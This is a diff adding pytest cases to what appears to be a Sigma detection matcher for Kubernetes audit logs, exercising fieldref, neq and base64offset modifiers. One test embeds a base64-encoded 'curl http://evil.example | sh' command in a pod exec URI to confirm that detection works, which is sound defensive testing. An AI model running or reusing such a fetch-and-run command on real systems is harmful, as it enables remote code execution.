@@ -156,3 +156,25 @@ def test_sigmahq_field_names_and_workload_templates(detection, expected):
 def test_sigmahq_names_match_nothing_on_a_pod_without_them():
     assert matches({"sel": {"hostPath": "*"}, "condition": "sel"}) is False
     assert matches({"sel": {"capabilities|exists": True}, "condition": "sel"}) is False
+
+
+@pytest.mark.parametrize(
+    ("detection", "expected"),
+    [
+        ({"sel": {"requestObject.metadata.name|fieldref": "objectRef.name"}, "condition": "sel"}, True),
+        ({"sel": {"requestObject.metadata.name|fieldref": "objectRef.namespace"}, "condition": "sel"}, False),
+        ({"sel": {"responseStatus.code|neq": 200}, "condition": "sel"}, True),
+        ({"sel": {"responseStatus.code|neq": 201}, "condition": "sel"}, False),
+        ({"sel": {"requestURI|base64offset|contains": "/pods"}, "condition": "sel"}, False),
+    ],
+)
+def test_fieldref_neq_and_expansions(detection, expected):
+    assert matches(detection) is expected
+
+
+def test_base64offset_finds_an_encoded_command():
+    import base64
+
+    encoded = base64.b64encode(b"curl http://evil.example | sh").decode()
+    event = {**BASE_EVENT, "requestURI": f"/api/v1/namespaces/dev/pods/web/exec?command=echo+{encoded}"}
+    assert matches({"sel": {"requestURI|base64offset|contains": "evil.example"}, "condition": "sel"}, event)
